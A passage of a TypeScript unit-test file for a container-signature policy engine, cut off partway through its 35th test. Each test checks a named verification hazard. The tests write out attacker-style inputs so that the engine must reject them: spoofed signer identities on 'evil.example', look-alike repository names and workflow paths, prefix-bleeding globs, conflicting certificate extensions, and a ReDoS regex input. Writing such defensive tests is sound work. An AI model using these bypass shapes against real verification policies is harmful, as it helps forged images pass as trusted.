// One test per hazard of ../shared/research/policy-landscape.md §4, named
// `hazard NN: …` so that coverage can be counted.
import { describe, expect, it } from 'vitest';
import {
  compilePolicy,
  evaluate,
  formatVerdict,
  ggcrName,
  kyvernoName,
  reasonCodes,
  verdictExitCode,
  type PolicyDocument,
  type Rule,
  type Verdict,
} from '../../src/policy.js';
import { importClusterImagePolicy, importKyverno } from '../../src/policy-import.js';
import { compileMatch } from '../../src/policy/string-match.js';
import { DEFAULT_LIMITS } from '../../src/policy/evidence.js';
import { LinearRegex } from '../../src/policy/regex/linear-regex.js';
import { fulcioExtensions } from '../../src/x509/fulcio.js';
import type { Certificate } from '../../src/x509/certificate.js';
import type { VerificationResult } from '../../src/verify/result.js';
import { ARTIFACT, GHA_ISSUER, NOW, SHA_A, SHA_B, SHA_C, WORKFLOW_SAN, attestation, signature, slsaV02, slsaV1, type SignerSpec } from './fixtures.js';

const SLSA1 = 'https://slsa.dev/provenance/v1';
const SLSA02 = 'https://slsa.dev/provenance/v0.2';
const VULN = 'https://cosign.sigstore.dev/attestation/vuln/v1';
const VULNS02 = 'https://in-toto.io/attestation/vulns/v0.2';
const VSA = 'https://slsa.dev/verification_summary/v1';
const SPDX = 'https://spdx.dev/Document/v2.3';

const limits = { maxPatternLength: DEFAULT_LIMITS.maxPatternLength, maxStringLength: DEFAULT_LIMITS.maxStringLength };
const m = (spec: Parameters<typeof compileMatch>[0], v: string) => compileMatch(spec, limits).test(v);

const gha = (subject: PolicyDocument['authorities'][string] extends never ? never : any = { prefix: 'https://github.com/acme/app/' }) => ({
  kind: 'keyless' as const,
  identities: [{ issuer: { exact: GHA_ISSUER }, subject }],
});

function pol(require: Rule, more: Partial<PolicyDocument> = {}): PolicyDocument {
  return { apiVersion: 'policy.sigvet.dev/v1', name: 'test', authorities: { gha: gha() }, require, ...more } as PolicyDocument;
}

function att(extra: Record<string, unknown> = {}): Rule {
  return { attestation: { id: 'a', predicateType: SLSA1, by: ['gha'], select: 'any', ...extra } } as Rule;
}

function run(doc: PolicyDocument, results: unknown[], extra: { artifacts?: unknown[]; reference?: string; now?: string } = {}): Verdict {
  return evaluate(doc, { artifacts: (extra.artifacts ?? [ARTIFACT]) as never, results: results as never, ...(extra.reference ? { reference: extra.reference } : {}) }, { now: extra.now ?? NOW });
}

function withSan(san: string, extra: SignerSpec = {}): VerificationResult {
  return attestation({ predicateType: SLSA1, predicate: slsaV1(), signer: { san, ...extra } });
}

function codes(doc: unknown): string[] {
  return compilePolicy(doc).problems.map((p) => p.code);
}

describe('A. identity matching', () => {
  it('hazard 01: regex is anchored; imported search is unanchored and linted', () => {
    const re = { regex: 'https://github\\.com/acme/.*' };
    expect(m(re, 'https://github.com/acme/app')).toBe('pass');
    expect(m({ regex: 'https://github\\.com/acme/' }, 'https://github.com/acme-evil/x/y')).toBe('fail');
    expect(m({ regex: 'https://github\\.com/acme/' }, 'https://evil/?https://github.com/acme/')).toBe('fail');
    expect(m(re, 'https://evil/?https://github.com/acme/x')).toBe('fail');
    // The foreign (Go MatchString) behaviour, reproduced only as an explicit search:
    expect(m({ search: 'https://github\\.com/acme/' }, 'https://evil/?https://github.com/acme/')).toBe('pass');
    const doc = pol(att(), { authorities: { gha: gha({ search: 'github\\.com/acme/' }) }, importedFrom: { format: 'clusterimagepolicy', apiVersion: 'policy.sigstore.dev/v1beta1', name: 'x' } });
    expect(codes(doc)).toContain('UNANCHORED_SEARCH');
    const notImported = pol(att(), { authorities: { gha: gha({ search: 'github\\.com/acme/' }) } });
    expect(compilePolicy(notImported).ok).toBe(false);
    expect(codes(notImported)).toContain('SEARCH_NOT_IMPORTED');
    // End to end: a regex identity refuses the evil SAN.
    const d = pol(att(), { authorities: { gha: gha({ regex: 'https://github\\.com/acme/.*' }) } });
    expect(run(d, [withSan('https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.2.3')]).decision).toBe('allow');
    expect(run(d, [withSan('https://evil.example/?https://github.com/acme/x')]).decision).toBe('deny');
  });

  it('hazard 02: alternation is grouped before anchoring', () => {
    expect(m({ regex: 'main|develop' }, 'main')).toBe('pass');
    expect(m({ regex: 'main|develop' }, 'develop')).toBe('pass');
    expect(m({ regex: 'main|develop' }, 'main-attacker')).toBe('fail');
    expect(m({ regex: 'main|develop' }, 'attacker-develop')).toBe('fail');
  });

  it('hazard 03: an exact identity is never a pattern', () => {
    const d = pol(att(), { authorities: { gha: { kind: 'keyless', identities: [{ issuer: { exact: 'https://accounts.google.com' }, subject: { exact: 'user@example.com' } }] } } });
    const google = { issuer: 'https://accounts.google.com' };
    expect(run(d, [withSan('user@example.com', google)]).decision).toBe('allow');
    expect(run(d, [withSan('userX@exampleYcom', google)]).decision).toBe('deny');
    expect(run(d, [withSan('evil-user@example.com.attacker.org', google)]).decision).toBe('deny');
  });

  it('hazard 04: a glob written into an exact field matches only the literal; Kyverno wildcards import as globs', () => {
    expect(m({ exact: 'https://github.com/acme/*' }, 'https://github.com/acme/app')).toBe('fail');
    expect(m({ exact: 'https://github.com/acme/*' }, 'https://github.com/acme/*')).toBe('pass');
    expect(codes(pol(att(), { authorities: { gha: gha({ exact: 'https://github.com/acme/*' }) } }))).toContain('EXACT_LOOKS_LIKE_GLOB');
    const r = importKyverno(kyvernoPolicy({ keyless: { subject: 'https://github.com/acme/*', issuer: GHA_ISSUER } }));
    const a = Object.values(r.policies[0]!.authorities)[0]!;
    expect(a.kind === 'keyless' && a.identities[0]!.subject).toEqual({ glob: 'https://github.com/acme/*', dialect: 'kyverno' });
    expect(a.kind === 'keyless' && a.identities[0]!.issuer).toEqual({ exact: GHA_ISSUER });
    expect(r.diagnostics.map((x) => x.code)).toContain('WILDCARD');
  });

  it('hazard 05: every populated matcher field is enforced; an invalid regex is a compile error', () => {
    const r = importKyverno(kyvernoPolicy({ keyless: { subject: 'https://github.com/acme/*', subjectRegExp: '^https://github\\.com/acme/app/', issuer: GHA_ISSUER } }));
    const p = r.policies[0]!;
    const c = compilePolicy(p);
    expect(c.ok).toBe(true);
    const sub = (Object.values(p.authorities)[0] as unknown as { identities: { subject: unknown }[] }).identities[0]!.subject;
    expect(sub).toEqual({ allOf: [{ glob: 'https://github.com/acme/*', dialect: 'kyverno' }, { search: '^https://github\\.com/acme/app/' }] });
    const ev = (san: string) => ({ reference: `ghcr.io/acme/app@sha256:${SHA_A}`, results: [signature({ signer: { san } })] });
    // The glob alone would pass "other"; the regexp field is enforced too.
    expect(run(p, ev('https://github.com/acme/other/x').results, { reference: ev('').reference }).decision).toBe('deny');
    expect(run(p, ev('https://github.com/acme/app/x').results, { reference: ev('').reference }).decision).toBe('allow');
    // Only a regexp set (the CVE-2025-29778 shape) is still enforced.
    const only = importKyverno(kyvernoPolicy({ keyless: { subjectRegExp: '^https://github\\.com/acme/app/', issuer: GHA_ISSUER } })).policies[0]!;
    expect(run(only, ev('https://github.com/evil/x').results, { reference: ev('').reference }).decision).toBe('deny');
    // An invalid regex does not compile.
    const bad = pol(att(), { authorities: { gha: gha({ regex: 'a(b' }) } });
    expect(compilePolicy(bad).ok).toBe(false);
    expect(codes(bad)).toContain('INVALID_PATTERN');
    expect(run(bad, [withSan(WORKFLOW_SAN)]).decision).toBe('deny');
  });

  it('hazard 06: the image signer and each attestation signer are checked against their own authority', () => {
    const doc = pol(
      { allOf: [{ signedBy: ['release'] }, { attestation: { id: 'prov', predicateType: SLSA1, by: ['builder'], select: 'any' } }] },
      {
        authorities: {
          release: { kind: 'keyless', identities: [{ issuer: { exact: 'https://accounts.google.com' }, subject: { exact: 'release@acme.example' } }] },
          builder: gha(),
        },
      },
    );
    const sig = signature({ signer: { san: 'release@acme.example', issuer: 'https://accounts.google.com' } });
    const prov = attestation({ predicateType: SLSA1, predicate: slsaV1() });
    expect(run(doc, [sig, prov]).decision).toBe('allow');
    // The provenance signer alone does not satisfy the signature rule, nor the release signer the attestation rule.
    const swapped = [signature(), attestation({ predicateType: SLSA1, predicate: slsaV1(), signer: { san: 'release@acme.example', issuer: 'https://accounts.google.com' } })];
    const v = run(doc, swapped);
    expect(v.decision).toBe('deny');
    expect(v.result.children!.every((c) => c.status === 'fail')).toBe(true);
    // Attestations present do not skip the signature check.
    expect(run(doc, [prov]).result.children![0]!.reason).toBe('NO_SIGNATURE');
  });

  it('hazard 07: a keyless authority with no identities does not compile', () => {
    const doc = pol(att(), { authorities: { gha: { kind: 'keyless', identities: [] } } });
    const c = compilePolicy(doc);
    expect(c.ok).toBe(false);
    expect(c.problems[0]).toMatchObject({ code: 'EMPTY_IDENTITIES', path: '/authorities/gha/identities' });
    expect(codes(pol(att(), { authorities: { gha: { kind: 'keyless', identities: [{ subject: { exact: 'x' } }] } } } as never))).toContain('IDENTITY_WITHOUT_ISSUER');
  });

  it('hazard 08: a subject constraint against a certificate without SAN fails', () => {
    const d = pol(att(), { authorities: { gha: gha({ regex: '.*' }) } });
    const v = run(d, [withSan('')]);
    expect(v.decision).toBe('deny');
    expect(JSON.stringify(v.result)).toContain('no identity SAN');
  });

  it('hazard 09: one SAN (Fulcio profile); a SAN list in the evidence is refused, deterministically', () => {
    const d = pol(att());
    const r = withSan(WORKFLOW_SAN);
    const twoSans = { ...r, signer: { ...r.signer, subjectAlternativeName: [WORKFLOW_SAN, 'https://evil.example/x'] } };
    const v1 = run(d, [twoSans]);
    const v2 = run(d, [twoSans]);
    expect(v1.decision).toBe('deny');
    expect(v1).toEqual(v2);
    expect(v1.evidence[0]!.problems.join()).toContain('single-SAN');
  });

  it('hazard 10: deprecated and current Fulcio OIDs that disagree fail every extension check', () => {
    const d = pol(att(), {
      authorities: { gha: { kind: 'keyless', identities: [{ issuer: { exact: GHA_ISSUER }, subject: { prefix: 'https://github.com/acme/app/' }, extensions: { runnerEnvironment: { exact: 'github-hosted' } } }] } },
    });
    const agree = { githubWorkflowRepository: 'acme/app', sourceRepositoryUri: 'https://github.com/acme/app', runnerEnvironment: 'github-hosted' };
    expect(run(d, [withSan(WORKFLOW_SAN, { extensions: agree })]).decision).toBe('allow');
    const v = run(d, [withSan(WORKFLOW_SAN, { extensions: { ...agree, githubWorkflowRepository: 'acme-evil/app' } })]);
    expect(v.decision).toBe('deny');
    expect(v.result.reason).toBe('EXTENSION_CONFLICT');
    // Reading a new name falls back to the deprecated one (with GitHub's host) when only that exists.
    const fallback = pol(att(), { authorities: { gha: { kind: 'keyless', identities: [{ issuer: { exact: GHA_ISSUER }, subject: { prefix: 'https://github.com/acme/app/' }, extensions: { sourceRepositoryUri: { exact: 'https://github.com/acme/app' } } }] } } });
    expect(run(fallback, [withSan(WORKFLOW_SAN, { extensions: { githubWorkflowRepository: 'acme/app' } })]).decision).toBe('allow');
  });

  it('hazard 11: OID matching works on decoded text for raw (1.1–1.6) and DER (1.8+) extensions', () => {
    const enc = new TextEncoder();
    const der = (s: string) => new Uint8Array([0x0c, s.length, ...enc.encode(s)]);
    const cert = {
      extensions: [
        { oid: '1.3.6.1.4.1.57264.1.5', critical: false, value: enc.encode('acme/app') },
        { oid: '1.3.6.1.4.1.57264.1.12', critical: false, value: der('https://github.com/acme/app') },
      ],
    } as unknown as Certificate;
    const ext = fulcioExtensions(cert);
    const d = pol(att(), {
      authorities: {
        gha: {
          kind: 'keyless',
          identities: [
            {
              issuer: { exact: GHA_ISSUER },
              subject: { prefix: 'https://github.com/acme/app/' },
              oids: [
                { oid: '1.3.6.1.4.1.57264.1.5', value: { exact: 'acme/app' } },
                { oid: '1.3.6.1.4.1.57264.1.12', value: { exact: 'https://github.com/acme/app' } },
              ],
            },
          ],
        },
      },
    });
    expect(run(d, [withSan(WORKFLOW_SAN, { extensions: ext.byName, byOid: ext.byOid })]).decision).toBe('allow');
    // The DER bytes themselves (tag + length + text) never match the text.
    const raw = { ...ext.byOid, '1.3.6.1.4.1.57264.1.12': new TextDecoder().decode(der('https://github.com/acme/app')) };
    expect(run(d, [withSan(WORKFLOW_SAN, { extensions: ext.byName, byOid: raw })]).decision).toBe('deny');
  });

  it('hazard 12: issuers are compared without normalization; a trailing slash is linted', () => {
    const d = pol(att(), { authorities: { gha: { kind: 'keyless', identities: [{ issuer: { exact: `${GHA_ISSUER}/` }, subject: { prefix: 'https://github.com/acme/app/' } }] } } });
    expect(codes(d)).toContain('ISSUER_TRAILING_SLASH');
    expect(run(d, [withSan(WORKFLOW_SAN)]).result.reason).toBe('IDENTITY_ISSUER_MISMATCH');
    expect(run(pol(att()), [withSan(WORKFLOW_SAN, { issuer: 'https://Token.Actions.GitHubUserContent.com' })]).decision).toBe('deny');
  });

  it('hazard 13: the RE2 subset accepts (?i), \\z and POSIX classes, rejects backreferences and lookaround, and is linear on ReDoS input', () => {
    expect(LinearRegex.compile('(?i)^https://github\\.com/ACME/').test('https://GITHUB.com/acme/')).toBe(true);
    expect(LinearRegex.compile('[[:alnum:]]+\\z', { mode: 'search' }).test('x--abc')).toBe(true);
    for (const bad of ['(a)\\1', 'a(?=b)', 'a(?!b)', '(?<=a)b', '(?<!a)b']) expect(() => LinearRegex.compile(bad)).toThrow();
    const evil = `${'a'.repeat(100_000)}!`;
    const normal = `${'b'.repeat(100_000)}!`;
    const re = LinearRegex.compile('(a+)+$', { mode: 'search' });
    const time = (s: string) => {
      const t0 = performance.now();
      re.test(s);
      return performance.now() - t0;
    };
    time(normal);
    const te = time(evil);
    expect(re.test(evil)).toBe(false);
    // Speed is measured in benchmarks/, never asserted in tests.
  });

  it('hazard 14: a workflow path matcher is exact unless a regex is asked for', () => {
    const wf = 'https://github.com/acme/app/.github/workflows/release.yml@refs/heads/main';
    const d = pol(att(), { authorities: { gha: { kind: 'keyless', identities: [{ issuer: { exact: GHA_ISSUER }, subject: { prefix: 'https://github.com/acme/app/' }, extensions: { buildConfigUri: { exact: wf } } }] } } });
    expect(run(d, [withSan(WORKFLOW_SAN, { extensions: { buildConfigUri: wf } })]).decision).toBe('allow');
    for (const other of ['https://github.com/acme/app/.github/workflows/release.yml.evil@refs/heads/main', 'https://github.com/acme/app/.github/workflows/rel', `${wf}x`]) {
      expect(run(d, [withSan(WORKFLOW_SAN, { extensions: { buildConfigUri: other } })]).result.reason).toBe('IDENTITY_EXTENSION_MISMATCH');
    }
  });
});

describe('B. artifact scoping', () => {
  const scoped = (images: unknown[], more: Record<string, unknown> = {}) => pol({ signedBy: ['gha'] }, { scope: { images, ...more } } as never);
  const applies = (doc: PolicyDocument, ref: string) => run(doc, [signature()], { reference: ref }).status !== 'not-applicable';

  it('hazard 15: glob dialects: * stays in one path segment, ** crosses, references are normalized', () => {
    const g = { glob: 'ghcr.io/acme/*', dialect: 'segment' };
    expect(applies(scoped([g]), 'ghcr.io/acme/app:1.0')).toBe(true);
    expect(applies(scoped([g]), 'ghcr.io/acme/a/b')).toBe(false);
    expect(applies(scoped([{ glob: 'ghcr.io/acme/**', dialect: 'segment' }]), 'ghcr.io/acme/a/b:1')).toBe(true);
    // Our segment dialect matches the normalized reference: "*" is not "ubuntu".
    expect(applies(scoped([{ glob: '*', dialect: 'segment' }]), 'ubuntu')).toBe(false);
    // policy-controller rewrites "*" to index.docker.io/library/* (documented; linted).
    const pc = scoped([{ glob: '*', dialect: 'policy-controller' }]);
    expect(applies(pc, 'ubuntu')).toBe(true);
    expect(codes(pc)).toContain('GLOB_REWRITTEN');
    expect(applies(scoped([{ glob: 'ghcr.io/acme/*', dialect: 'policy-controller' }]), 'ghcr.io/acme/app:1.0')).toBe(true);
  });

  it('hazard 16: Kyverno wildcards cross "/" and the tag disappears once a digest pins the reference', () => {
    const k = scoped([{ glob: 'ghcr.io/acme/app:v1*', dialect: 'kyverno' }]);
    expect(applies(k, 'ghcr.io/acme/app:v1.2')).toBe(true);
    expect(kyvernoName(`ghcr.io/acme/app:v1.2@sha256:${SHA_A}`)).toBe(`ghcr.io/acme/app@sha256:${SHA_A}`);
    expect(applies(k, `ghcr.io/acme/app:v1.2@sha256:${SHA_A}`)).toBe(false);
    expect(applies(scoped([{ glob: 'ghcr.io/*', dialect: 'kyverno' }]), 'ghcr.io/acme/a/b:1')).toBe(true);
  });

  it('hazard 17: prefix bleed is linted, and the bleeding match is real', () => {
    const doc = scoped([{ glob: 'ghcr.io/acme*', dialect: 'kyverno' }]);
    expect(codes(doc)).toContain('GLOB_PREFIX_BLEED');
    expect(applies(doc, 'ghcr.io/acme-evil/x:1')).toBe(true);
    expect(codes(pol(att(), { authorities: { gha: gha({ prefix: 'https://github.com/acme' }) } }))).toContain('PREFIX_BLEED');
  });

  it('hazard 18: Docker Hub normalization table', () => {
    expect(ggcrName('nginx')).toBe('index.docker.io/library/nginx:latest');
    expect(ggcrName('docker.io/nginx')).toBe('index.docker.io/library/nginx:latest');
    expect(ggcrName('index.docker.io/library/nginx:latest')).toBe('index.docker.io/library/nginx:latest');
    expect(ggcrName('localhost:5000/x')).toBe('localhost:5000/x:latest');
    expect(kyvernoName('nginx')).toBe('docker.io/library/nginx:latest');
    expect(kyvernoName('index.docker.io/library/nginx:latest')).toBe('docker.io/library/nginx:latest');
    expect(ggcrName('acme/app:1')).toBe('index.docker.io/acme/app:1');
  });

  it('hazard 19: requireDigest rejects tag-only references and reports the digest evaluated', () => {
    const doc = scoped([{ glob: 'ghcr.io/acme/**', dialect: 'segment' }], { requireDigest: true });
    const tag = run(doc, [signature()], { reference: 'ghcr.io/acme/app:1.0' });
    expect(tag.decision).toBe('deny');
    expect(tag.result.reason).toBe('DIGEST_REQUIRED');
    const ok = run(doc, [signature()], { reference: `ghcr.io/acme/app@sha256:${SHA_A}`, artifacts: [] });
    expect(ok.decision).toBe('allow');
    expect(ok.artifact.digests).toEqual([{ sha256: SHA_A }]);
    const other = run(doc, [signature()], { reference: `ghcr.io/acme/app@sha256:${SHA_B}` });
    expect(other.result.reason).toBe('SUBJECT_DIGEST_MISMATCH');
  });

  it('hazard 20: evaluate never reads outcomes from artifact or evidence metadata', () => {
    const doc = pol(att());
    const r = { ...attestation({ predicateType: VULN }), verdict: 'allow', decision: 'allow', annotations: { 'policy.sigstore.dev/verified': 'true' } };
    const v = evaluate(doc, { artifacts: [{ ...ARTIFACT, verdict: 'allow' } as never], results: [r as never], cachedVerdict: { decision: 'allow' } } as never, { now: NOW });
    expect(v.decision).toBe('deny');
  });
});

describe('C. predicate types', () => {
  it('hazard 21: no attestation of the requested type fails and says what was seen', () => {
    const v = run(pol(att({ predicateType: SPDX })), [attestation({ predicateType: VULN })]);
    expect(v.decision).toBe('deny');
    expect(v.result.reason).toBe('NO_ATTESTATION_OF_TYPE');
    expect(v.result.seen?.predicateTypes).toEqual([VULN]);
    expect(formatVerdict(v)).toContain(VULN);
  });

  it('hazard 22: the same rule over every bundle format; an unparsable payload fails instead of being skipped', () => {
    const doc = pol(att());
    for (const mt of ['application/vnd.dev.sigstore.bundle+json;version=0.1', 'application/vnd.dev.sigstore.bundle+json;version=0.2', 'application/vnd.dev.sigstore.bundle.v0.3+json']) {
      expect(run(doc, [attestation({ predicateType: SLSA1, predicate: slsaV1(), bundleMediaType: mt })]).decision).toBe('allow');
    }
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1() });
    const unparsed = { ...r, content: { ...r.content, statement: undefined } };
    const v = run(doc, [unparsed]);
    expect(v.decision).toBe('deny');
    expect(v.evidence[0]!.kind).toBe('invalid');
  });

  it('hazard 23: the importer expands cosign short names exactly and lints old versions', () => {
    const r = importClusterImagePolicy(cip({ attestations: [{ name: 'prov', predicateType: 'slsaprovenance' }, { name: 'link', predicateType: 'link' }] }));
    const p = r.policies[0]!;
    const types = JSON.stringify(p.require);
    expect(types).toContain(SLSA02);
    expect(types).not.toContain(SLSA1 + '"');
    expect(types).toContain('https://in-toto.io/Link/v1');
    const lint = codes(p);
    expect(lint.filter((c) => c === 'DEPRECATED_PREDICATE_TYPE').length).toBe(2);
    expect(r.diagnostics.filter((d) => d.code === 'SHORT_NAME_EXPANDED').length).toBe(2);
  });

  it('hazard 24: predicate types are exact; families are explicit lists', () => {
    const exact = pol(att({ predicateType: SPDX }));
    for (const t of [`${SPDX}/`, 'http://spdx.dev/Document/v2.3', 'https://SPDX.dev/Document/v2.3']) {
      expect(run(exact, [attestation({ predicateType: t })]).result.reason).toBe('NO_ATTESTATION_OF_TYPE');
    }
    expect(run(exact, [attestation({ predicateType: SPDX })]).decision).toBe('allow');
    const fam = pol(att({ predicateType: { family: 'spdx' } }));
    expect(run(fam, [attestation({ predicateType: 'https://spdx.dev/Document/v3' })]).decision).toBe('allow');
    expect(run(fam, [attestation({ predicateType: 'https://spdx.dev/Document/v9' })]).decision).toBe('deny');
    expect(run(pol(att({ predicateType: { family: 'slsa-provenance' } })), [attestation({ predicateType: 'https://slsa.dev/provenance/v1.1-draft' })]).decision).toBe('deny');
  });

  it('hazard 25: unknown _type, wrong payloadType, string predicate, null or empty subject all fail cleanly', () => {
    const doc = pol(att());
    const base = attestation({ predicateType: SLSA1, predicate: slsaV1() });
    const st = (base.content as unknown as { statement: Record<string, unknown> }).statement;
    const variants = [
      attestation({ predicateType: SLSA1, predicate: slsaV1(), statementType: 'https://in-toto.io/Statement/v9' }),
      attestation({ predicateType: SLSA1, predicate: slsaV1(), payloadType: 'application/json' }),
      { ...base, content: { ...base.content, statement: { ...st, predicate: JSON.stringify(slsaV1()) } } },
      { ...base, content: { ...base.content, statement: { ...st, subject: [null] } } },
      { ...base, content: { ...base.content, statement: { ...st, subject: [] } } },
    ];
    for (const v of variants) {
      const verdict = run(doc, [v]);
      expect(verdict.decision).toBe('deny');
      expect(verdict.evidence[0]!.kind).toBe('invalid');
      expect(verdict.evidence[0]!.problems.length).toBeGreaterThan(0);
    }
  });
});

describe('D. quantifiers and counts', () => {
  const passing = attestation({ predicateType: SLSA1, predicate: slsaV1(), time: '2025-06-01T08:00:00Z' });
  const failing = attestation({ predicateType: SLSA1, predicate: slsaV1({ repo: 'https://github.com/acme-evil/app' }), time: '2025-06-01T10:00:00Z' });
  const rule = (select: string) => att({ select, slsa: { sourceUri: 'github.com/acme/app', builderIsSigner: true } });

  it('hazard 26: any passes with one good attestation; all fails; newest uses verified time, not order', () => {
    expect(run(pol(rule('any')), [passing, failing]).decision).toBe('allow');
    expect(run(pol(rule('all')), [passing, failing]).decision).toBe('deny');
    expect(run(pol(rule('newest')), [passing, failing]).decision).toBe('deny');
    expect(run(pol(rule('newest')), [failing, passing]).decision).toBe('deny');
    const older = attestation({ predicateType: SLSA1, predicate: slsaV1({ repo: 'https://github.com/acme-evil/app' }), time: '2025-06-01T07:00:00Z' });
    expect(run(pol(rule('newest')), [older, passing]).decision).toBe('allow');
    expect(codes(pol(att({ select: undefined })))).toContain('MISSING_QUANTIFIER');
  });

  it('hazard 27: all over an empty set fails (no vacuous truth)', () => {
    const v = run(pol(rule('all')), []);
    expect(v.decision).toBe('deny');
    expect(v.result.reason).toBe('NO_ATTESTATION_OF_TYPE');
    expect(run(pol(att({ select: 'all', minCount: 2 })), [passing]).decision).toBe('deny');
  });

  it('hazard 28: k-of-n counts distinct signers; count 0 means all; count > n is invalid; a nested set is one entry', () => {
    const doc = pol({ signedBy: ['gha'], distinctSigners: 2 });
    const same = [signature(), signature()];
    expect(run(doc, same).result.reason).toBe('THRESHOLD_NOT_MET');
    expect(run(doc, [signature(), signature({ signer: { san: 'https://github.com/acme/app/.github/workflows/other.yml@refs/heads/main' } })]).decision).toBe('allow');
    expect(compilePolicy(pol({ atLeast: 3, of: [{ signedBy: ['gha'] }, { signedBy: ['gha'] }] })).problems[0]!.code).toBe('THRESHOLD_INVALID');
    const k = importKyverno(kyvernoYaml([{ count: 0, entries: [{ keyless: { subject: 'a', issuer: 'i' } }, { keyless: { subject: 'b', issuer: 'i' } }, { attestor: { count: 1, entries: [{ keyless: { subject: 'c', issuer: 'i' } }, { keyless: { subject: 'd', issuer: 'i' } }] } }] }]));
    const req = k.policies[0]!.require as { atLeast: number; of: Rule[] };
    expect(req.atLeast).toBe(3);
    expect(req.of.length).toBe(3);
    expect(req.of[2]).toMatchObject({ atLeast: 1 });
    const over = importKyverno(kyvernoYaml([{ count: 3, entries: [{ keyless: { subject: 'a', issuer: 'i' } }] }]));
    expect(over.diagnostics.some((d) => d.code === 'THRESHOLD_INVALID' && d.severity === 'invalid')).toBe(true);
  });

  it('hazard 29: the ClusterImagePolicy importer ORs authorities and ANDs attestations with select any', () => {
    const text = `apiVersion: policy.sigstore.dev/v1beta1
kind: ClusterImagePolicy
metadata: { name: two }
spec:
  images: [{ glob: "ghcr.io/acme/**" }]
  authorities:
    - name: keyed
      key: { data: "${PEM.replace(/\n/g, '\\n')}" }
    - name: gha
      keyless:
        identities: [{ issuer: "${GHA_ISSUER}", subject: "${WORKFLOW_SAN}" }]
      attestations:
        - { name: prov, predicateType: "${SLSA1}" }
        - { name: vuln, predicateType: vuln }
`;
    const r = importClusterImagePolicy(text);
    const p = r.policies[0]!;
    expect(p.require).toEqual({
      anyOf: [
        { signedBy: ['keyed'] },
        {
          allOf: [
            { attestation: { id: 'gha-prov', predicateType: SLSA1, by: ['gha'], select: 'any' } },
            { attestation: { id: 'gha-vuln', predicateType: VULN, by: ['gha'], select: 'any' } },
          ],
        },
      ],
    });
    expect(compilePolicy(p).ok).toBe(true);
  });
});

describe('E. subject and digest binding', () => {
  const subjects = [1, 2, 3, 4, 5].map((i) => ({ name: `file${i}`, digest: { sha256: String(i).repeat(64) } }));
  it('hazard 30: any matching subject binds by default; requireAllArtifactDigests needs every artifact; names apply to the matched subject', () => {
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects });
    const a3 = { digest: { sha256: '3'.repeat(64) } };
    expect(run(pol(att()), [r], { artifacts: [a3] }).decision).toBe('allow');
    const all = pol(att({ subject: { requireAllArtifactDigests: true } }));
    expect(run(all, [r], { artifacts: [a3, { digest: { sha256: '3'.repeat(64) } }] }).decision).toBe('allow');
    expect(run(all, [r], { artifacts: [a3, { digest: { sha256: SHA_C } }] }).result.reason).toBe('SUBJECT_DIGEST_MISMATCH');
    expect(run(pol(att({ subject: { name: { exact: 'file3' } } })), [r], { artifacts: [a3] }).decision).toBe('allow');
    expect(run(pol(att({ subject: { name: { exact: 'file1' } } })), [r], { artifacts: [a3] }).result.reason).toBe('SUBJECT_NAME_MISMATCH');
  });

  it('hazard 31: digests are never pooled across subjects', () => {
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'one', digest: { sha256: SHA_A } }, { name: 'two', digest: { sha512: 'b'.repeat(128) } }] });
    const both = { digest: { sha256: SHA_A, sha512: 'b'.repeat(128) } };
    expect(run(pol(att({ subject: { allDigestAlgorithms: true } })), [r], { artifacts: [both] }).result.reason).toBe('SUBJECT_DIGEST_MISMATCH');
    const disagree = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'one', digest: { sha256: SHA_A, sha512: 'c'.repeat(128) } }] });
    expect(run(pol(att()), [disagree], { artifacts: [both] }).decision).toBe('deny');
  });

  it('hazard 32: weak algorithms only when listed; no case folding or prefix stripping', () => {
    const md5 = 'd'.repeat(32);
    const sha1 = 'e'.repeat(40);
    const weak = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'x', digest: { md5, sha1 } }] });
    const art = { digest: { md5, sha1 } };
    expect(run(pol(att()), [weak], { artifacts: [art] }).decision).toBe('deny');
    expect(run(pol(att({ subject: { digestAlgorithms: ['sha1'] } })), [weak], { artifacts: [art] }).decision).toBe('allow');
    const upper = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'x', digest: { sha256: SHA_A.toUpperCase() } }] });
    const prefixed = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'x', digest: { sha256: `sha256:${SHA_A}` } }] });
    expect(run(pol(att()), [upper]).decision).toBe('deny');
    expect(run(pol(att()), [prefixed]).decision).toBe('deny');
    // Caller-supplied digests are held to the same form.
    expect(run(pol(att()), [attestation({ predicateType: SLSA1 })], { artifacts: [{ digest: { sha256: SHA_A.toUpperCase() } }] }).result.reason).toBe('EVIDENCE_INVALID');
  });

  it('hazard 33: a digest mismatch states the expected digest and the subjects present', () => {
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'manifest', digest: { sha256: SHA_B } }] });
    const v = run(pol(att()), [r]);
    expect(v.result.reason).toBe('SUBJECT_DIGEST_MISMATCH');
    const text = formatVerdict(v);
    expect(text).toContain(SHA_A);
    expect(text).toContain(SHA_B);
    expect(text).toContain('manifest');
  });

  it('hazard 34: subject and digest caps give indeterminate, never a silent pass', () => {
    const many = Array.from({ length: 5 }, (_, i) => ({ name: `f${i}`, digest: { sha256: i === 0 ? SHA_A : String(i).repeat(64) } }));
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: many });
    const doc = pol(att({ select: 'all' }), { limits: { maxSubjects: 3 } });
    const v = run(doc, [r]);
    expect(v.decision).toBe('deny');
    expect(v.status).toBe('indeterminate');
    expect(reasonCodes(v)).toContain('LIMIT_EXCEEDED');
  });
});

describe('F. condition semantics', () => {
  const cond = (where: unknown[], predicate: unknown) => run(pol(att({ where })), [attestation({ predicateType: SLSA1, predicate })]);

  it('hazard 35: eq on an absent path fails (no unification), and so do ne and notIn', () => {
    expect(cond([{ path: '/predicate/x', op: 'eq', value: 'y' }], {}).result.reason).toBe('PATH_ABSENT');
    expect(cond([{ path: '/predicate/x', op: 'ne', value: 'y' }], {}).decision).toBe('deny');
    expect(cond([{ path: '/predicate/x', op: 'notIn', value: ['y'] }], {}).decision).toBe('deny');
    expect(cond([{ path: '/predicate/x', exists: false }], {}).decision).toBe('allow');
    expect(cond([{ path: '/predicate/x', op: 'eq', value: 'y' }], { x: 'y' }).decision).toBe('allow');
